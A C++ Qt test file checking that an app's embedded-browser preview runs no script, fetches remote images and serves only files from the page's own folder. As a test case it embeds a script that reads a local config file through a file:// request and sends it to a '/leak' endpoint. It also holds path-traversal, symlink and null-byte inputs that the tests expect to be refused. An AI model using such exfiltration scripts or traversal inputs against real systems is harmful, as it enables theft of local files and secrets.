// The two windows with the embedded browser, on the engine plugin: the preview shows a
// local Shift-JIS page and shows it afresh on the next preview, fetches remote images,
// runs no script and reads nothing local outside the page's folder; the auction page dialog takes
// the address of a page served over HTTP once it has loaded, never of a local file. Without the
// plugin both say so.

#include "core/app/helpers.h"
#include "gui/page/product_page_windows.h"
#include "gui/shell/qt_window_dialogs.h"
#include "gui/web/auction_page_dialog.h"
#include "gui/web/engine/page_folder.h"
#include "gui/web/preview_dialog.h"
#include "gui/web/web_browser.h"
#include "gui/web/web_engine_loader.h"
#include "gui_test_support.h"

#include <QAccessible>
#include <QLabel>
#include <QLineEdit>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QtTest>

#include <memory>

using namespace hanamori;
using namespace hanamori::test;

namespace {
// Answers every request with one small HTML page and keeps the paths asked for.
class TinyHttpServer : public QTcpServer {
public:
    QStringList requested;

    TinyHttpServer() {
        connect(this, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* s = nextPendingConnection()) {
                connect(s, &QTcpSocket::readyRead, s, [this, s] {
                    requested << QString::fromLatin1(s->readAll().split(' ').value(1));
                    QByteArray body = "<html><head><title>item</title></head><body>x</body></html>";
                    s->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                             "Content-Length: " +
                             QByteArray::number(body.size()) + "\r\n\r\n" + body);
                    s->disconnectFromHost();
                });
            }
        });
    }
};

bool WaitLoaded(QSignalSpy& spy, int count) {
    return QTest::qWaitFor([&] { return spy.count() >= count; }, 30000);
}
} // namespace

class WebViewsTest : public QObject {
    Q_OBJECT
    std::unique_ptr<TempInstall> m_install;

private slots:
    void init() { m_install = std::make_unique<TempInstall>(true); }
    void cleanup() { m_install.reset(); }

    // Runs first, before the plugin is loaded for the other cases.
    void withoutThePluginBothWindowsSaySo() {
        const QByteArray plugin = qgetenv("HANAMORI_WEB_PLUGIN");
        qputenv("HANAMORI_WEB_PLUGIN", "/nonexistent/libhanamori_web.so");
        ScriptedHost host;
        QtProductPageWindows windows(host, nullptr);
        windows.ShowPreview(InstallDir() + "work/preview.html");
        QVERIFY(!windows.preview());
        QVERIFY(host.MessagesUtf8().back().find("ブラウザの部品を読み込めない") == 0);

        QtWindowDialogs dialogs(host);
        QTimer::singleShot(0, [] {
            auto* dialog = qobject_cast<AuctionPageDialog*>(QApplication::activeModalWidget());
            QVERIFY(dialog && !dialog->browser());
            QVERIFY(dialog->findChild<QLabel*>("engineMissingLabel")->isVisible());
            QTest::keyClicks(dialog->findChild<QLineEdit*>("urlEdit"), Q("https://x.jp/1"));
            QTest::keyClick(dialog, Qt::Key_Return);
        });
        QCOMPARE(dialogs.AskPageUrl(std::string()), std::optional<std::string>("https://x.jp/1"));
        qputenv("HANAMORI_WEB_PLUGIN", plugin);
    }

    void previewShowsRemoteImagesAndRunsNoScript() {
        TinyHttpServer server;
        QVERIFY(server.listen(QHostAddress::LocalHost));
        const QString base = QStringLiteral("http://127.0.0.1:%1").arg(server.serverPort());
        // What a script could reach: a file beside the page and one outside its folder.
        const std::string secret = InstallDir() + "hanamo.ini";
        WriteFile(InstallDir() + "work/near.txt", "near");
        // Style sheets beside the page load through the program and their imports are
        // seen here; one reached through a link out of the folder, by an encoded "..",
        // or as a file: address must not be.
        const std::string import = "@import url(\"" + base.toStdString() + "/";
        WriteFile(InstallDir() + "work/beside.css", import + "beside\");");
        WriteFile(InstallDir() + "outside.css", import + "outside\");");
        std::filesystem::create_symlink(InstallDir() + "outside.css",
                                        InstallDir() + "work/linked.css");
        const std::string styles =
            "<link rel=\"stylesheet\" href=\"beside.css\"><link rel=\"stylesheet\" "
            "href=\"linked.css\"><link rel=\"stylesheet\" href=\"..%2Foutside.css\">"
            "<link rel=\"stylesheet\" href=\"file://" +
            InstallDir() + "outside.css\">";
        const std::string page = "<html><head><title>t</title>" + styles +
                                 "</head><body><img src=\"" + base.toStdString() +
                                 "/photo.jpg\"><script>document.title = 'ran';"
                                 "var x = new XMLHttpRequest(); x.open('GET', 'file://" +
                                 secret + "', false); x.send(); new Image().src = '" +
                                 base.toStdString() +
                                 "/leak?' + encodeURIComponent(x.responseText);</script>"
                                 "<img src=\"near.txt\"><img src=\"file://" +
                                 secret + "\"></body></html>";
        WriteFile(InstallDir() + "work/preview.html", page);

        ScriptedHost host;
        QtProductPageWindows windows(host, nullptr);
        windows.ShowPreview(InstallDir() + "work/preview.html");
        QSignalSpy loaded(windows.preview(), &PreviewDialog::pageLoaded);
        QVERIFY(WaitLoaded(loaded, 1));
        QTRY_VERIFY(server.requested.contains(Q("/photo.jpg")));
        QTRY_VERIFY(server.requested.contains(Q("/beside")));
        QCOMPARE(windows.preview()->browser()->title(), Q("t"));
        QTest::qWait(200);
        server.requested.sort();
        QCOMPARE(server.requested, (QStringList{Q("/beside"), Q("/photo.jpg")}));
    }

    void pageFolderGivesOnlyItsOwnFiles() {
        const QString work = QString::fromStdString(InstallDir() + "work");
        WriteFile(InstallDir() + "work/a b.jpg", "x");
        WriteFile(InstallDir() + "secret.txt", "s");
        std::filesystem::create_directory(InstallDir() + "work/sub");
        std::filesystem::create_symlink(InstallDir() + "secret.txt", InstallDir() + "work/out");
        std::filesystem::create_symlink(InstallDir() + "work/a b.jpg", InstallDir() + "work/in");
        const QString folder = PageFolderOf(work + Q("/preview.html"));
        const auto file = [&folder](const char* path) {
            return FileInFolder(folder, QUrl(Q("hanamori-page://view1") + Q(path)));
        };
        QCOMPARE(file("/a%20b.jpg"), folder + Q("/a b.jpg"));
        QCOMPARE(file("/sub/../in"), folder + Q("/a b.jpg"));
        for (const char* refused : {"/out", "/..%2Fsecret.txt", "/sub%2F..%2F..%2Fsecret.txt",
                                    "/sub", "/missing", "/a%20b.jpg%00", ""}) {
            QVERIFY2(file(refused).isEmpty(), refused);
        }
        QVERIFY(FileInFolder(QString(), QUrl(Q("hanamori-page://view1/a%20b.jpg"))).isEmpty());
        QCOMPARE(ContentTypeOf(Q("x.HTM")), QByteArray("text/html;charset=Shift_JIS"));
        QCOMPARE(ContentTypeOf(Q("x.css")), QByteArray("text/css;charset=Shift_JIS"));
        QCOMPARE(ContentTypeOf(Q("x.jpg")), QByteArray("image/jpeg"));
    }

    void previewShowsLocalShiftJisPagesAndReloads() {
        ScriptedHost host;
        QtProductPageWindows windows(host, nullptr);
        const std::string path = InstallDir() + "work/preview.html";
        // No charset declaration: the bytes are Shift-JIS as the page builders write them.
        WriteFile(
            path,
            Sj("<html><head><title>一回目のプレビュー</title></head><body>青磁</body></html>"));
        windows.ShowPreview(path);
        PreviewDialog* preview = windows.preview();
        QVERIFY(preview);
        QVERIFY(preview->isVisible());
        QCOMPARE(preview->windowTitle(), Q("Hanamori - 商品の紹介ページのプレビュー"));
        QSignalSpy loaded(preview, &PreviewDialog::pageLoaded);
        QVERIFY(WaitLoaded(loaded, 1));
        QCOMPARE(loaded.at(0).at(0).toBool(), true);
        QCOMPARE(preview->browser()->title(), Q("一回目のプレビュー"));
        // Screen readers find the preview among the program's windows, and nothing else
        // the engine made.
        QAccessibleInterface* program = QAccessible::queryAccessibleInterface(qApp);
        QStringList windowNames;
        for (int i = 0; i < program->childCount(); ++i) {
            windowNames << program->child(i)->text(QAccessible::Name);
        }
        QVERIFY2(!windowNames.contains(Q("Offscreen")), qPrintable(windowNames.join(u'|')));

        WriteFile(path, Sj("<html><head><title>二回目</title></head><body>x</body></html>"));
        windows.ShowPreview(path);
        QCOMPARE(windows.preview(), preview); // still the one window
        QVERIFY(WaitLoaded(loaded, 2));
        QCOMPARE(preview->browser()->title(), Q("二回目"));

        // Closed, the window waits for the next preview with the engine started.
        preview->close();
        QVERIFY(!preview->isVisible());
        windows.ShowPreview(path);
        QCOMPARE(windows.preview(), preview);
        QVERIFY(preview->isVisible());
        QVERIFY(WaitLoaded(loaded, 3));
    }

    void auctionPageTakesServedAddressesOnly() {
        TinyHttpServer server;
        QVERIFY(server.listen(QHostAddress::LocalHost));
        const QString served =
            QStringLiteral("http://127.0.0.1:%1/item/x123").arg(server.serverPort());

        ScriptedHost host;
        AuctionPageDialog dialog(host, LoadWebEngine(), std::string());
        auto* edit = dialog.findChild<QLineEdit*>("urlEdit");
        QSignalSpy loaded(&dialog, &AuctionPageDialog::pageLoaded);
        // A new listing: the work page is written and shown; the address stays empty.
        QCOMPARE(ReadFile(InstallDir() + "work/workpage.html"), WorkPageText());
        QVERIFY(WaitLoaded(loaded, 1));
        QCOMPARE(dialog.browser()->title(), Q("Hanamori - 作業用"));
        QCOMPARE(edit->text(), QString());

        dialog.browser()->Navigate(served.toStdString());
        QVERIFY(WaitLoaded(loaded, 2));
        QCOMPARE(edit->text(), served);

        const std::string local = InstallDir() + "work/other.html";
        WriteFile(local, "<html><body>local</body></html>");
        dialog.browser()->Navigate(local);
        QVERIFY(WaitLoaded(loaded, 3));
        QVERIFY(dialog.browser()->url().isLocalFile());
        QCOMPARE(edit->text(), served);
        QCOMPARE(dialog.url(), served.toStdString());

        // Typed by hand, the address is kept as typed.
        edit->setText(Q(" https://auctions.example.jp/item/1 "));
        QCOMPARE(dialog.url(), std::string(" https://auctions.example.jp/item/1 "));
        QVERIFY(TakesLoadedAddress(Q("HTTP://x")));
        QVERIFY(!TakesLoadedAddress(Q("FILE:///tmp/a.html")));
    }

    void auctionPageOpensOnTheCurrentAddress() {
        TinyHttpServer server;
        QVERIFY(server.listen(QHostAddress::LocalHost));
        const std::string served =
            "http://127.0.0.1:" + std::to_string(server.serverPort()) + "/item/2";
        std::filesystem::remove(InstallDir() + "work/workpage.html");
        ScriptedHost host;
        AuctionPageDialog dialog(host, LoadWebEngine(), served);
        QSignalSpy loaded(&dialog, &AuctionPageDialog::pageLoaded);
        QVERIFY(WaitLoaded(loaded, 1));
        QCOMPARE(dialog.browser()->title(), Q("item"));
        QCOMPARE(dialog.url(), served);
        QVERIFY(!std::filesystem::exists(InstallDir() + "work/workpage.html"));
    }
};

QTEST_MAIN(WebViewsTest)
#include "test_web_views.moc"
